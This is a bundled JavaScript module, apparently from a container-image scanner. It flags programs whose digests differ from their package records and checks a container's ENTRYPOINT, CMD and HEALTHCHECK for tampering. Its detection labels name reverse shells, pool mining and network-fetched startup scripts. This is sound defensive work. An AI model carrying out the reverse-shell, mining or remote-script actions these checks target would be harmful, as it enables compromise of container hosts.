/** Describes how a program differs from what its package recorded; undefined if it does not, or nothing is recorded. */
function differenceOf(file, owners, { packages, owned }) {
	const owner = owners.of(file);
	const compared = owner === void 0 ? void 0 : compareDigest(owner, file.value);
	if (owner?.package === void 0 || compared === void 0 || compared.stated === compared.actual) return void 0;
	const { listed } = owner;
	if ([...packages, ...owned].some((pkg) => isUnchanged({
		...owner,
		package: pkg,
		...defined({ listed })
	}, file.value))) return void 0;
	const { name, version = "" } = owner.package;
	const { algorithm, stated, actual } = compared;
	return ` differs from the file of ${oneLine(`${name} ${version}`)}: the package recorded the ${algorithm} ${stated}, and the file has ${actual}`;
}
/** Judges ENTRYPOINT, CMD and HEALTHCHECK themselves. */
function inCommands({ entrypoint, cmd, healthcheck }, subject) {
	return [
		["ENTRYPOINT", entrypoint],
		["CMD", cmd],
		["HEALTHCHECK", healthcheck?.test ?? []]
	].flatMap(([keyword, words]) => suspiciousCommands(words.join(" ")).map((command) => imageProblem(ruleFor(command), {
		message: `${keyword} ${whatItDoes[command.kind]}: ${command.evidence}`,
		subject,
		about: ["config", keyword],
		setBy: [keyword]
	})));
}
var whatItDoes;
function init_tampering() {
	return (init_tampering = __esmMin((() => {
		init_packages();
		init_text();
		init_owners();
		init_image_check();
		init_entry_points();
		init_forms();
		init_programs$1();
		init_rules();
		init_scripts();
		whatItDoes = {
			"reverse-shell": "connects a shell to another host",
			miner: "mines for a pool",
			"remote-script": "runs a script from the network when the container starts"
		};
	})))();
}

export { placeProblem as S, efficiencyCollectors as _, tamperingRules as a, init_efficiency as b, secretProblems as c, keyRules as d, hygieneCollectors as f, efficiencyAnalyzers as g, init_hygiene as h, init_rules as i, init_keys as l, hygieneRules as m, tamperingCollectors as n, init_problems as o, hygieneProblems as p, tamperingProblems as r, ruleOf as s, init_tampering as t, isNamedAsDummy as u, efficiencyProblems as v, init_image_check as x, efficiencyRules as y };